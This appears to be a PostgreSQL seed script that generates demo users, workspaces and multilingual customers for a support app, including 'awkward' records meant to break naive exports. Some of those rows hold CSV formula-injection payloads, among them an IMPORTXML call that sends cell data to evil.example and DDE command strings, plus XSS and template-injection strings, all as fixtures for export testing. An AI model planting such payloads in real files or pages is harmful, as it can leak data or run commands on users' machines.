-- Demo data: the workspaces "Acme" and "Globex" with users, customers of every type, conversations and tickets.
--
-- Deterministic: ids and choices come from md5, times are relative to 2026-11-20, so tests and screenshots can rely on them.
-- Idempotent: existing rows stay unchanged. It contains no transaction commands and runs with or without a transaction.
-- The password of every user is hydra-demo.
--
-- For demos and tests, all in Acme: Priya Raman, c0000000-0000-4000-8000-000000000001, has many conversations and tickets;
-- customers with values that break naive exports have the external_id awkward-01 and so on; conversation
-- ff19c0e8-d807-4c6d-8112-332e4f7c70d8 has 1,510 messages and 3e89e0ac-be46-451d-83f5-b8c7d8533d5a has 1,001.

-- Helper functions, dropped at the end of the session

create or replace function pg_temp.hash(key text) returns bigint language sql immutable as $$
  select ('x' || substr(md5(key), 1, 8))::bit(32)::bigint
$$;

-- A version 4 uuid, because strict validators reject others.
create or replace function pg_temp.id(key text) returns uuid language sql immutable as $$
  select overlay(overlay(md5(key) placing '4' from 13) placing '8' from 17)::uuid
$$;

create or replace function pg_temp.pick(items text[], key text) returns text language sql immutable as $$
  select items[1 + pg_temp.hash(key) % cardinality(items)]
$$;

create or replace function pg_temp.chance(percent int, key text) returns boolean language sql immutable as $$
  select pg_temp.hash(key) % 100 < percent
$$;

-- A time from start to finish. Computed in microseconds, because days depend on the session's time zone.
create or replace function pg_temp.moment(start timestamptz, finish timestamptz, key text) returns timestamptz
language sql immutable as $$
  select start + interval '1 microsecond'
    * trunc(extract(epoch from finish - start) * 1000000 * pg_temp.hash(key) / 4294967296)::float8
$$;

-- Replaces every # with a digit.
create or replace function pg_temp.digits(pattern text, key text) returns text language sql immutable as $$
  select string_agg(case when c.letter = '#' then substr(translate(md5(key), 'abcdef', '258149'), c.place::int, 1)
    else c.letter end, '' order by c.place)
  from unnest(string_to_array(pattern, null)) with ordinality c (letter, place)
$$;

-- Only the lower-case ASCII letters and digits of a name, for e-mail addresses.
create or replace function pg_temp.plain(words text) returns text language sql immutable as $$
  select regexp_replace(lower(translate(normalize(words, nfd), 'ŁłĐđØøÆæıß', 'LlDdOoAais') collate "C"), '[^a-z0-9]', '', 'g')
$$;

create or replace function pg_temp.first_day() returns timestamptz language sql immutable as $$
  select '2025-05-20 00:00:00+00'::timestamptz
$$;
create or replace function pg_temp.last_day() returns timestamptz language sql immutable as $$
  select '2026-11-20 00:00:00+00'::timestamptz
$$;

create or replace function pg_temp.workspaces() returns table (
  slug text, tenant_id uuid, accounts int, customers int, conversations int, tickets int, agents uuid[], team text[]
) language sql immutable as $$
  values
    ('acme', 'a0000000-0000-4000-8000-000000000001'::uuid, 120, 4930, 344, 246, array[
      'd0000000-0000-4000-8000-000000000001', 'd0000000-0000-4000-8000-000000000002',
      'd0000000-0000-4000-8000-000000000003', 'd0000000-0000-4000-8000-000000000006']::uuid[],
      array['Olivia Hart', 'Adam Reyes', 'Mia Lindqvist', 'Bo Thomsen']),
    ('globex', 'b0000000-0000-4000-8000-000000000001'::uuid, 30, 400, 40, 30, array[
      'd0000000-0000-4000-8000-000000000004', 'd0000000-0000-4000-8000-000000000005',
      'd0000000-0000-4000-8000-000000000006']::uuid[],
      array['Gustavo Ferrari', 'Grace Okafor', 'Bo Thomsen'])
$$;

-- Users

insert into auth.users (
  id, aud, role, email, encrypted_password, email_confirmed_at, raw_app_meta_data, raw_user_meta_data, created_at, updated_at,
  confirmation_token, recovery_token, email_change, email_change_token_new, email_change_token_current, phone_change,
  phone_change_token, reauthentication_token
)
select p.id::uuid, 'authenticated', 'authenticated', p.email,
  '$2a$10$BQOu9eD0S1tqqNSZ3i19buoTUo5nW4nH//hgKbiM/7pSvbNfNr6xK', pg_temp.first_day(),
  '{"provider": "email", "providers": ["email"]}', jsonb_build_object('name', p.name), pg_temp.first_day(), pg_temp.first_day(),
  '', '', '', '', '', '', '', ''
from (values
  ('d0000000-0000-4000-8000-000000000001', 'owner@acme.test', 'Olivia Hart'),
  ('d0000000-0000-4000-8000-000000000002', 'admin@acme.test', 'Adam Reyes'),
  ('d0000000-0000-4000-8000-000000000003', 'member@acme.test', 'Mia Lindqvist'),
  ('d0000000-0000-4000-8000-000000000004', 'owner@globex.test', 'Gustavo Ferrari'),
  ('d0000000-0000-4000-8000-000000000005', 'admin@globex.test', 'Grace Okafor'),
  ('d0000000-0000-4000-8000-000000000006', 'both@hydra.test', 'Bo Thomsen')
) p (id, email, name)
on conflict do nothing;

-- Supabase Auth finds users by instance_id; Supabase Lite has no such column.
do $$
begin
  if exists (
    select from information_schema.columns
    where table_schema = 'auth' and table_name = 'users' and column_name = 'instance_id'
  ) then
    update auth.users set instance_id = '00000000-0000-0000-0000-000000000000'
    where id::text like 'd0000000-0000-4000-8000-00000000000_' and instance_id is null;
  end if;
end;
$$;

insert into auth.identities (id, provider, provider_id, user_id, identity_data, created_at, updated_at)
select pg_temp.id('identity-' || u.id), 'email', u.id::text, u.id,
  jsonb_build_object('sub', u.id, 'email', u.email, 'email_verified', true, 'phone_verified', false),
  pg_temp.first_day(), pg_temp.first_day()
from auth.users u where u.id::text like 'd0000000-0000-4000-8000-00000000000_'
on conflict do nothing;

-- Workspaces and members, in one statement: at commit each workspace needs an owner

with workspaces as (
  insert into public.tenants (id, name, slug, created_at)
  select tenant_id, initcap(slug), slug, pg_temp.first_day() from pg_temp.workspaces()
  on conflict do nothing
)
insert into public.members (tenant_id, user_id, role, display_name, email, created_at)
select w.tenant_id, u.id, m.role::public.member_role, u.raw_user_meta_data ->> 'name', u.email, pg_temp.first_day()
from (values
  ('acme', 'owner@acme.test', 'owner'), ('acme', 'admin@acme.test', 'admin'), ('acme', 'member@acme.test', 'member'),
  ('acme', 'both@hydra.test', 'admin'),
  ('globex', 'owner@globex.test', 'owner'), ('globex', 'admin@globex.test', 'admin'), ('globex', 'both@hydra.test', 'member')
) m (slug, email, role)
join pg_temp.workspaces() w on w.slug = m.slug
join auth.users u on u.email = m.email
on conflict do nothing;

-- Accounts: Northwind Traders (northwind.example) is the first of Acme

insert into public.accounts (id, tenant_id, name, domain, created_at)
select pg_temp.id(w.slug || '-account-' || n), w.tenant_id,
  a.first || ' ' || a.second || case when a.m > 0 then pg_temp.pick('{"",""," Ltd"," Inc."," GmbH"," S.A."," AB",", LLC"," Group"}', a.key)
    else '' end,
  case when a.m % 17 < 16 then
    pg_temp.plain(a.first || case when a.m < 40 then '' else a.second end) || case when a.m % 4 = 3 then '.test' else '.example' end
  end,
  pg_temp.moment(pg_temp.first_day(), '2025-09-01 00:00:00+00', a.key)
from pg_temp.workspaces() w
cross join lateral generate_series(1, w.accounts) n
cross join lateral (
  select w.slug || '-account-' || n as key, i.m,
    (string_to_array('Northwind,Blue Harbor,Cobalt,Ridgeline,Café Lumière,Sørensen,Kestrel,Alder & Pine,Müller,Juniper,Quantum Leaf,'
      'Tidewater,O''Connor,Saffron,Polar,Granite,Vega,Hearth,Lindgren,Redwood,Nimbus,Ávila,Copperfield,Sakura,Baobab,Meridian,'
      'Piñon,Orchard,Falcon,Zephyr,Silverlake,Łódź,Monsoon,Atlas,Clover,Bright Path,Driftwood,Ember,Fjord,Maple', ','))
      [1 + i.m % 40] as first,
    (string_to_array('Traders,Logistics,Software,Foods,Analytics,Studio,Health,Robotics,Energy,Travel,Media,Supply,Labs,Outdoor,'
      'Insurance,Textiles,Consulting,Systems,Bikes,Press', ','))[1 + (i.m / 40 * 7 + i.m) % 20] as second
  from (select n - 1 + case w.slug when 'globex' then 130 else 0 end as m) i
) a
on conflict do nothing;

-- Customers

create or replace function pg_temp.regions() returns table (
  place int, locale text, family_first boolean, firsts text[], lasts text[], phones text[]
) language sql immutable as $$
  values
  (0, 'en-GB', false, '{Amelia,Oliver,Isla,Harry,Poppy,Alfie,Freya,George,Imogen,Rhys}'::text[],
    '{Clarke,Bennett,Hughes,Whitfield,Ashworth,O''Brien,Llewellyn,MacLeod,Pemberton-Smith,Shah}'::text[],
    '{+44 20 7946 0###,07700 900###,(0113) 496 0###}'::text[]),
  (1, 'en-US', false, '{Madison,Ethan,Jasmine,Tyler,Brianna,Marcus,Chloe,Jamal,Savannah,Diego}',
    '{Johnson,Williams,Ramirez,Washington,Kowalski,Nguyen,Patterson,Begay,Delgado,"De La Cruz"}',
    '{(555) 010-####,+1 555-010-####,555.010.####,+1 (555) 010-####}'),
  (2, 'de-DE', false, '{Lena,Jürgen,Käthe,Matthias,Franziska,Björn,Annika,Götz,Hannelore,Tobias}',
    '{Müller,Schäfer,Groß,Weiß,"von der Heide",Vogel,Kühn,Böttcher,Zimmermann,Jäger}', '{+49 30 23125 ###,030/23125###,+49 (0)89 99998-###}'),
  (3, 'fr-FR', false, '{Élodie,Théo,Chloé,François,Maëlle,Gaël,Noémie,Jérôme,Anaïs,Loïc}',
    '{Lefèvre,Dubois,"d''Aubigné",Moreau,Garnier,Béranger,Rousseau,"Le Goff",Chevalier,Traoré}', '{01 99 00 ## ##,+33 6 39 98 ## ##}'),
  (4, 'es-ES', false, '{Lucía,Álvaro,Begoña,Iñigo,Marisol,Joaquín,Ximena,Andrés,Inés,Ramón}',
    '{"García López",Núñez,Ibáñez,"Martín Sáez",Peña,Echeverría,Quiñones,Vázquez,Ortega,"Muñoz Rey"}', '{+34 910 000 ###,600 00 0# ##}'),
  (5, 'pt-BR', false, '{João,Beatriz,Thiago,Luíza,Caio,Conceição,Otávio,Júlia,Mateus,Rafaela}',
    '{Gonçalves,"dos Santos",Araújo,Magalhães,Figueiredo,Brandão,Simões,Teixeira,Queiroz,Leão}', '{(11) 90000-####,+55 21 90000-####}'),
  (6, 'it-IT', false, '{Giulia,Niccolò,Chiara,Lorenzo,Francesca,Matteo,Beatrice,Alessio}',
    '{Rossi,"D''Angelo",Bianchi,"De Luca",Esposito,Colombo,Marchetti,Rinaldi}', '{+39 06 0000 ####,02 0000 ####}'),
  (7, 'sv-SE', false, '{Åsa,Göran,Linnéa,Søren,Ingrid,Øyvind,Maja,Jussi,Sólveig,Mikkel}',
    '{Öberg,Lindström,Sjögren,Kjærgaard,Østergaard,Halvorsen,Mäkinen,Bergström,Jónsdóttir,Nygård}', '{+46 8 465 004 ##,070-174 06 ##,+47 00 00 ## ##}'),
  (8, 'pl-PL', false, '{Łukasz,Małgorzata,Zdzisław,Agnieszka,Jiří,Šárka,Ondřej,Dagmar}',
    '{Wiśniewski,Żukowska,Gołębiowski,Kaczmarek,Dvořáková,Novák,Szczepański,Wójcik}', '{+48 500 000 ###,22 000 ## ##}'),
  (9, 'en-IN', false, '{Ananya,Vikram,Priyanka,Arjun,Lakshmi,Rohan,Kavya,Imran,Deepa,Harpreet}',
    '{Sharma,Iyer,Chatterjee,Patel,Venkataraman,Singh,Reddy,Khan,Fernandes,Bhattacharya}', '{+91 90000 0####,080-0000 ####}'),
  (10, 'en-NG', false, '{Chinedu,Folasade,Ngozi,Tunde,Amara,Kwame,Zainab,Sipho,Wanjiru,Abebe}',
    '{Okonkwo,Adeyemi,Mensah,Balogun,Nkosi,Kamau,Eze,Tesfaye,Abubakar,Onyango}', '{0800 000 ####,+234 800 000 ####,+254 700 000###}'),
  (11, 'tr-TR', false, '{Ayşe,Çağlar,Gülşen,İbrahim,Zeynep,Ömer,Elif,Barış}',
    '{Yılmaz,Öztürk,Şahin,Çelik,Doğan,Kılıç,Aydın,Güneş}', '{0 (500) 000 ## ##,+90 500 000 ## ##}'),
  (12, 'vi-VN', true, '{Thị Hương,Văn Minh,Quốc Bảo,Thu Trang,Đức Anh,Ngọc Lan,Hải Yến,Tuấn Kiệt}',
    '{Nguyễn,Trần,Phạm,Lê,Hoàng,Đặng,Vũ,Bùi}', '{+84 90 000 ## ##,090 000 ####}'),
  (13, 'zh-CN', true, '{Wei,Xiaoling,Jun,Meihua,Haoran,Yuting,Min-jun,Seo-yeon,Jia Hui,Zihan}',
    '{Wang,Li,Zhang,Chen,Lin,Kim,Park,Tan,Huang,Zhou}', '{+86 100 0000 ####,+82-2-000-####}'),
  (14, 'ja-JP', true, '{花子,太郎,美咲,健一,結衣,翔太,陽菜,大輔}', '{佐藤,鈴木,高橋,田中,渡辺,伊藤,山本,中村}', '{03-0000-####,+81-90-0000-####}'),
  (15, 'el-GR', false, '{Ελένη,Γιώργος,Κατερίνα,Νίκος,Μαρία,Δημήτρης}', '{Παπαδόπουλος,Γεωργίου,Νικολάου,Αντωνίου,Οικονόμου,Κωνσταντίνου}',
    '{+30 210 000 ####}'),
  (16, 'uk-UA', false, '{Олена,Тарас,Ірина,Андрій,Наталія,Юрій}', '{Шевченко,Коваленко,Бондаренко,Ткачук,Кравець,Мельник}',
    '{+380 50 000 ## ##}'),
  (17, 'ar-AE', false, '{فاطمة,أحمد,ليلى,يوسف,مريم,خالد}', '{العتيبي,المنصوري,الحسن,حداد,الخوري,السيد}', '{+971 50 000 ####,050 000 ####}')
$$;

insert into public.customers (
  id, tenant_id, type, email, name, company, job_title, phone, source, external_id, account_id, source_bot_id, notes, metadata,
  churn_reasons, created_at, last_seen_at, promoted_at, churned_at
)
select pg_temp.id(p.key), w.tenant_id, p.type::public.customer_type,
  -- E-mail addresses: with the company's domain if there is one; some with capitals or a tag.
  case when pg_temp.chance(case p.type when 'visitor' then 6 when 'lead' then 85 else 97 end, p.key || 'email') then
    case when p.ascii_first = '' then 'user' || n else case pg_temp.hash(p.key || 'local') % 9
      when 0 then p.ascii_first || '.' || p.ascii_last || '+support'
      when 1 then left(p.ascii_first, 1) || p.ascii_last
      when 2 then p.ascii_first || '_' || p.ascii_last || n % 100
      when 3 then p.first_ascii_capital || '.' || p.ascii_last
      else p.ascii_first || '.' || p.ascii_last || case when a.domain is null then (n % 1000)::text else '' end
    end end || '@' || coalesce(a.domain, pg_temp.pick('{mail.example,post.example,inbox.test,correo.example,freemail.test}', p.key || 'at'))
  end,
  case when pg_temp.chance(case p.type when 'visitor' then 4 when 'lead' then 93 else 99 end, p.key || 'name') then
    case
      when p.family_first then p.last || ' ' || p.first
      when pg_temp.hash(p.key || 'style') % 40 = 0 then p.last || ', ' || p.first
      when pg_temp.hash(p.key || 'style') % 40 = 1 then 'Dr. ' || p.first || ' ' || p.last
      when pg_temp.hash(p.key || 'style') % 40 = 2 then p.first || ' "' || left(p.first, 2) || '" ' || p.last
      when pg_temp.hash(p.key || 'style') % 40 = 3 then p.first
      else p.first || ' ' || p.last
    end
  end,
  case
    when a.name is not null then a.name
    when p.type <> 'visitor' and pg_temp.chance(20, p.key || 'company')
      then pg_temp.pick('{Freelance,Self-employed,n/a,University of Ghent,City Council,"Bakery \"Zum Löwen\"",Tanaka & Co.}', p.key)
  end,
  case when p.type <> 'visitor' and pg_temp.chance(70, p.key || 'job') then pg_temp.pick(
    '{Account Executive,Accountant,Buyer,CEO,CFO,Chief of Staff,COO,CTO,Customer Success Manager,Data Analyst,"Director, Operations",
    Developer,E-commerce Manager,Einkäuferin,Engineering Manager,Event Planner,Facilities Manager,Founder,Gerente de Ventas,
    Head of Growth,Head of People,HR Generalist,"IT Manager, EMEA",Legal Counsel,Logistics Coordinator,Marketing Lead,Nurse,
    Office Manager,Product Designer,Product Manager,Procurement,QA Engineer,Recruiter,Responsable achats,Sales Manager,
    Security Engineer,Shop Owner,Student,Support Lead,Teacher,Team Lead (interim),VP Finance,VP Sales,Werkstudent,取締役,店長}', p.key || 'job') end,
  case when p.type <> 'visitor' and pg_temp.chance(55, p.key || 'phone')
    then pg_temp.digits(pg_temp.pick(p.phones, p.key || 'phone'), p.key) end,
  p.source,
  case p.source
    when 'import' then 'crm-' || lpad(n::text, 6, '0')
    when 'api' then 'usr_' || substr(md5(p.key), 1, 14)
    when 'manual' then case when n % 3 = 0 then (7010000000000 + pg_temp.hash(p.key))::text end
  end,
  a.id,
  case when p.source = 'widget' and pg_temp.chance(60, p.key || 'bot')
    then pg_temp.id(w.slug || '-bot-' || pg_temp.hash(p.key) % 2) end,
  case when p.type <> 'visitor' and pg_temp.chance(14, p.key || 'notes') then pg_temp.pick(array[
    'Prefers e-mail over phone.', 'Asked for an invoice in EUR; VAT number on file.', 'Met at the spring trade fair, stand B12.',
    E'Called twice:\n- 1st: no answer\n- 2nd: wants a quote for 40 seats', 'Says "we never got the reset mail", check spam rules.',
    'Decision maker is her manager, not her.', E'Key account.\r\nDo not change the price list without asking Olivia.',
    'Bitte nur auf Deutsch anschreiben.', 'Préfère être contacté après 17 h.', 'Renewal in Q1, budget not approved yet (€12,000).',
    'Duplicate of another record? Same phone, different address.', 'Speaks Spanish and Portuguese; time zone UTC−3.'], p.key || 'note') end,
  case p.shape
    when 0 then null
    when 1 then '{}'::jsonb
    when 2 then jsonb_build_object('plan', pg_temp.pick('{free,starter,team,business}', p.key), 'seats', 1 + pg_temp.hash(p.key) % 250,
      'trial', n % 4 = 0, 'mrr', round(pg_temp.hash(p.key || 'mrr') % 100000 / 100.0, 2))
    when 3 then jsonb_build_object('utm', jsonb_build_object('source', pg_temp.pick('{newsletter,search,partner,social}', p.key),
      'campaign', pg_temp.pick('{spring-26,black-friday,webinar_03}', p.key || 'c'), 'term', null))
    when 4 then jsonb_build_object('browser', pg_temp.pick('{Firefox 143,Chrome 141,Safari 19}', p.key), 'os',
      pg_temp.pick('{Windows 11,macOS 26,Android 16,iOS 19,Linux}', p.key || 'os'), 'pages', jsonb_build_array('/', '/pricing', '/docs/' || n % 40))
    when 5 then jsonb_build_object('address', jsonb_build_object('street', n % 200 || ' ' || pg_temp.pick(
      '{High Street,Hauptstraße,Rue de la Paix,Calle Mayor,Nygatan}', p.key), 'postcode', lpad((n % 99999)::text, 5, '0'), 'geo',
      jsonb_build_array(round(n % 900 / 10.0, 4), round(n % 1800 / -10.0, 4))))
    when 6 then jsonb_build_object('tags', to_jsonb(string_to_array(pg_temp.pick('{vip,vip beta,eu,eu gdpr vip,churn-risk}', p.key), ' ')),
      'nps', n % 11)
    when 7 then jsonb_build_object('legacy', jsonb_build_object('id', 90000000000 + n, 'imported_by', 'csv', 'fields',
      jsonb_build_object('Custom Field 1', 'Yes', 'Größe (cm)', '')), 'score', round(pg_temp.hash(p.key || 's') % 1000 / 100.0, 2))
    else jsonb_build_object('locale', p.locale, 'consent', jsonb_build_object('marketing', n % 2 = 0, 'terms', '2025-04'))
  end,
  case
    when p.type = 'former_customer' then (
      select jsonb_agg(r.reason) from unnest(array['price', 'missing_feature', 'switched_to_competitor', 'went out of business',
        'support too slow', 'no longer needed', 'duplicate account', 'bug: "export failed"']) with ordinality r (reason, i)
      where pg_temp.hash(p.key || r.i) % 4 = 0)
    when pg_temp.chance(4, p.key || 'churn') then '[]'::jsonb
  end,
  p.created_at,
  case when pg_temp.chance(88, p.key || 'seen') then pg_temp.moment(p.created_at, pg_temp.last_day(), p.key || 'seen at') end,
  p.promoted_at,
  case when p.type = 'former_customer' then pg_temp.moment(p.promoted_at, pg_temp.last_day(), p.key || 'churned') end
from pg_temp.workspaces() w
cross join lateral generate_series(1, w.customers) n
cross join lateral (select w.slug || '-customer-' || n as key, w.slug = 'acme' and n between 1001 and 2500 as imported) k
join pg_temp.regions() r on r.place = pg_temp.hash(k.key || 'region') % 18
-- A quarter of the customers with Latin script have a family name from another region.
join pg_temp.regions() f on f.place = case when r.place < 12 and pg_temp.chance(25, k.key || 'mixed')
  then pg_temp.hash(k.key || 'family') % 12 else r.place end
cross join lateral (
  select k.key, k.imported, r.locale, r.family_first, r.phones, t.type, d.created_at,
    pg_temp.pick(r.firsts, k.key || 'first') as first, pg_temp.pick(f.lasts, k.key || 'last') as last,
    case when k.imported then 'import' when t.type = 'visitor' then 'widget'
      else pg_temp.pick('{widget,widget,widget,email,email,api,manual,referral}', k.key || 'source') end as source,
    case when t.type not in ('contact', 'former_customer') then null when k.imported then d.created_at
      else pg_temp.moment(d.created_at, d.created_at + interval '400 hours', k.key || 'promoted') end as promoted_at,
    s.ascii_first, s.ascii_last, initcap(s.ascii_first) as first_ascii_capital, m.shape
  from (select pg_temp.hash(k.key || 'type') % 100 as dice) x
  cross join lateral (select case when x.dice < 30 then 'lead' when x.dice < 75 then 'contact' when x.dice < 84 then 'former_customer'
    when k.imported then 'lead' else 'visitor' end as type) t
  -- 1,500 customers of Acme come from one import and share one created_at.
  cross join lateral (select case when k.imported then '2026-03-02 09:14:27.381946+00'::timestamptz
    else pg_temp.moment(pg_temp.first_day(), '2026-11-03 00:00:00+00', k.key || 'created') end as created_at) d
  cross join lateral (select pg_temp.plain(pg_temp.pick(r.firsts, k.key || 'first')) as ascii_first,
    pg_temp.plain(pg_temp.pick(f.lasts, k.key || 'last')) as ascii_last) s
  cross join lateral (select case when t.type = 'visitor' then (array[0, 3, 4, 4, 8])[1 + x.dice % 5]
    else pg_temp.hash(k.key || 'metadata') % 9 end as shape) m
) p
-- The first accounts have many contacts, the last ones few.
left join public.accounts a on p.type <> 'visitor' and pg_temp.chance(60, p.key || 'account')
  and a.id = pg_temp.id(w.slug || '-account-' || 1 + (pg_temp.hash(p.key || 'a') % w.accounts) * (pg_temp.hash(p.key || 'b') % w.accounts) / w.accounts)
on conflict do nothing;

-- Customers of Acme with values that break naive exports; the job title says which

insert into public.customers (
  id, tenant_id, type, email, name, company, job_title, phone, source, external_id, notes, metadata, created_at
)
select pg_temp.id('acme-awkward-' || a.n), w.tenant_id,
  (enum_range(null::public.customer_type))[1 + a.n % 3], 'awkward-' || lpad(a.n::text, 2, '0') || '@awkward.example',
  a.name, a.company, a.what, a.phone, 'manual', 'awkward-' || lpad(a.n::text, 2, '0'), a.notes, a.metadata::jsonb,
  '2026-06-15 10:00:00.123456+00'::timestamptz + a.n * interval '61.000007 seconds'
from (values
  (5, 'Commas and quotes', 'Comma, Clara, Jr.', '"Quoted" & Sons, Ltd', '030, 555', 'She said "one, two", then """three"""', '{"quote": "\"", "comma": ","}'),
  (6, 'Line feed', E'Line\nFeed', E'Two\n\nlines', null, E'first\nsecond\n', '{"note": "a\nb"}'),
  (7, 'Carriage return and line feed', E'Crlf\r\nConnie', E'\r\n', null, E'first\r\nsecond\r\n', '{"note": "a\r\nb"}'),
  (8, 'Lone carriage return', E'Lone\rReturn', E'Old\rMac', null, E'first\rsecond\r', '{"note": "a\rb"}'),
  (9, 'Every line break, quoted', E'"Mixed"\r\n\n\r"Mary"', E',\n"', null, E'a\tb\n"c",\r\n''d''\r', null),
  (10, 'Leading and trailing spaces', '  Spacey Stacey  ', ' ', ' +44 20 7946 0000 ', E' \t ', '{" key ": " value "}'),
  (11, 'No-break and ideographic spaces', E'\u00a0Nora\u00a0Break\u00a0', E'\u3000全角\u3000', null, E'narrow\u202fspace, em\u2003space', null),
  (12, 'Accents', 'Zoë Ångström-Łukasiewicz', 'Straße & Œuvre, İstanbul ıIiİ', null, 'Příliš žluťoučký kůň úpěl ďábelské ódy', '{"ß": "ẞ"}'),
  (13, 'Emoji: ZWJ, flags, skin tones', E'👩‍👩‍👧‍👦 Family 🏳️‍🌈', '🇪🇺🇯🇵🇧🇷 Flags Inc', '☎️ 1️⃣2️⃣3️⃣', '👍🏽👩🏿‍🚀 🧑‍💻', '{"mood": "😀", "🔑": "🔒"}'),
  (14, 'Arabic', 'محمد بن عبد الله', 'شركة الأمل، المحدودة', '٠٥٠١٢٣٤٥٦٧', 'قال: "نعم"، ثم ذهب', '{"اسم": "قيمة"}'),
  (15, 'Hebrew', 'שָׁלוֹם כהן', 'חברה בע"מ', null, 'abc שלום 123 def', null),
  (16, 'Bidirectional controls', E'\u202eTxet desreveR\u202c', E'invoice\u202efdp.exe', null, E'\u200fright\u200e left \u2066isolate\u2069', null),
  (17, 'Chinese, Japanese, Korean', '王小明', '𠮷野家 株式会社', '０３−００００−００００', '한국어 메모, ｶﾀｶﾅ、「引用」', '{"名前": "値"}'),
  (18, 'Combining marks', E'Zoe\u0308 A\u030angstro\u0308m', E'Z\u0351\u036b\u0343a\u0329\u0346l\u0354g\u0331o\u0323\u0306', null, E'same? Zo\u00eb / Zoe\u0308', '{"Zo\u00eb": 1, "Zoe\u0308": 2}'),
  (19, 'Zero-width characters', E'Zero\u200bWidth\u200dZed', E'\u200b', null, E'a\u200cb\u2060c\u00add', null),
  (20, 'Unicode line and paragraph separators', E'Line\u2028Separator', E'Para\u2029graph', null, E'next\u0085line, \u000bvertical tab, \u000cform feed', '{"u": "\u2028\u2029"}'),
  (21, 'Byte-order mark first', E'\ufeffBomber Bill', E'\ufeff', null, E'in the \ufeff middle', null),
  (22, 'Backslashes', 'Back\slash \n \t \\', 'C:\new\table\', null, '\x41 \u0041 \101 \''', '{"path": "C:\\new"}'),
  (23, 'COPY''s null', '\N', '\N', '\N', '\N', '"\\N"'),
  (24, 'COPY''s end of data', '\.', '\.', null, E'before\n\\.\nafter', null),
  (25, 'The word NULL', 'NULL', 'NULL', 'NULL', 'NULL', '{"NULL": "NULL"}'),
  (26, 'The word null', 'null', 'null', 'null', 'null', '"null"'),
  (27, 'Other words that parsers change', 'undefined', 'NaN', 'true', 'None', '["#N/A", "TRUE", "-inf", "nil"]'),
  (28, 'Only quotes', '"', '""', '''', '"""', '"\""'),
  (29, 'Starts with =', '=Ewan Equals', '=1+1', '=5', '=', '{"=": "=1+1"}'),
  (30, 'Starts with +', '+Petra Plus', '+1+1', '+49 30 1', '+', null),
  (31, 'Starts with -', '-Dina Dash', '-1-1', '-', '- first point', null),
  (32, 'Starts with @', '@handle', '@SUM(1+1)', '@', '@Olivia please call', null),
  (33, 'Starts with a tab', E'\tTabitha Tab', E'\t=1+1', null, E'\t', null),
  (34, 'Starts with a carriage return', E'\rRita Return', E'\r=1+1', null, E'\r', null),
  (35, 'Starts with a line feed', E'\nLinus Feed', E'\n=1+1', null, E'\n', null),
  (36, 'Starts with full-width ＝', '＝Wide Wendy', '＝1+1', null, null, null),
  (37, 'Starts with full-width ＋', '＋Wide Walter', '＋1+1', '＋49 30 1', null, null),
  (38, 'Starts with full-width －', '－Wide Wilma', '－1+1', null, null, null),
  (39, 'Starts with full-width ＠', '＠Wide Willy', '＠SUM(1+1)', null, null, null),
  (40, 'Formula: link', '=HYPERLINK("http://evil.example","x")', '=IMPORTXML("http://evil.example/?"&A1,"//a")', null, '=1+1";=1+1', null),
  (41, 'Formula: command', '=cmd|'' /C calc''!A0', '+cmd|'' /C calc''!A0', '-2+3+cmd|'' /C calc''!A0', '@SUM(1+1)*cmd|'' /C calc''!A0', null),
  (42, 'Formula behind something', ' =1+1', '"=1+1"', ''' =1+1', E'harmless\n=1+1', null),
  (43, 'Already has an apostrophe', '''=1+1', '''', '''+1', 'rock ''n'' roll', null),
  (44, 'Plain numbers', '1e5', '-5', '+1 (555) 010-2000', '007', '{"n": "007"}'),
  (45, 'More numbers', '+5', '-1.5e-3', '-1 555 010 2000', '-0', '[-5, 1e5, 0.10]'),
  (46, 'Number-like text', '12345678901234567890', '1.10', '00000', '0x1F', null),
  (47, 'Dates and fractions', '1-2', '1/2', '2026-01-01', 'SEPT2, MARCH1', null),
  (48, 'Separators of other dialects', 'semi;colon', E'tab\there', 'pipe|pipe', E'unit\u001fseparator', null),
  (49, '40 kB of ASCII', 'Long Asa', null, null, repeat('All work and no play. ', 1862), null),
  (50, '40 kB of two- to four-byte letters', 'Long Äsa', null, null, repeat('日本語 ñandú 🦤 ', 1781), null),
  (51, '40 kB that do not compress', 'Long Dense', null, null, (select string_agg(md5('dense' || i), '' order by i) from generate_series(1, 1280) i), null),
  (52, '40 kB of quotes and line breaks', 'Long Quote', null, null, repeat(E'"a","b"\r\n', 4551), null),
  (53, '40 kB of metadata', 'Long Meta', null, null, null, (select jsonb_object_agg('key ' || i, md5('meta' || i))::text from generate_series(1, 870) i)),
  (54, 'Exact numbers', 'Exact Ed', null, null, null, '{"digits20": 12345678901234567890, "price": 1.10, "zero": -0.0, "tiny": 1e-7, "long": 0.1234567890123456789012345}'),
  (55, 'Huge numbers', 'Huge Hugo', null, null, null, '{"big": 1e400, "small": 1e-400, "negative": -9.87e399}'),
  (56, 'Nested objects', 'Nested Ned', null, null, null, '{"a": {"b": [{"c": {"d": [[[[{"e": null}]]]]}}, {}, [], [[]]]}}'),
  (57, 'Unicode escapes', 'Escaping Esme', null, null, null, '{"e": "\u00e9", "pair": "\ud83d\ude00", "bell": "\u0007", "slash": "\/", "literal": "\\u00e9"}'),
  (58, 'Empty object', 'Object Oda', null, null, null, '{}'),
  (59, 'Empty array', 'Array Ari', null, null, null, '[]'),
  (60, 'JSON null', 'Null Nils', null, null, null, 'null'),
  (61, 'JSON string', 'String Stig', null, null, null, '"=1+1"'),
  (62, 'JSON number', 'Number Nova', null, null, null, '-1.10'),
  (63, 'JSON boolean', 'Boolean Bo', null, null, null, 'false'),
  (64, 'Keys that objects trip over', 'Proto Pete', null, null, null, '{"": 1, "__proto__": {"x": 1}, "constructor": 2, "10": "ten", "9": "nine", "a.b": 3, "toString": null}'),
  (65, 'HTML and script', '<script>alert("name")</script>', '<img src=x onerror=alert(1)>', 'tel:<b>1</b>', '</script><!-- & &amp; &#39; ${7*7} {{7*7}} %00 <a href="javascript:alert(1)">x</a>', '{"html": "</script>"}'),
  (66, 'A very long name', left(repeat('Wolfeschlegelsteinhausen Bergerdorff ', 9), 300), left(repeat('Very Long Company Name ', 14), 300), null, null, null),
  (67, 'A very long word', repeat('Donaudampfschifffahrt', 15), repeat('W', 300), repeat('5', 60), repeat('nobreak', 700), null),
  (68, 'Control characters', E'Ding\u0007Dong', E'esc\u001b[31mred\u001b[0m', null, E'\u0001\u0002\u007f\u009f \ufffe\uffff \ue000', '{"c": "\u0001\u007f"}'),
  (69, 'Never seen, nothing known', 'Blank Blake', null, null, null, null)
) a (n, what, name, company, phone, notes, metadata)
join pg_temp.workspaces() w on w.slug = 'acme'
on conflict do nothing;

-- Null and the empty string in every column that can hold both; then unusual ids and times
insert into public.customers (
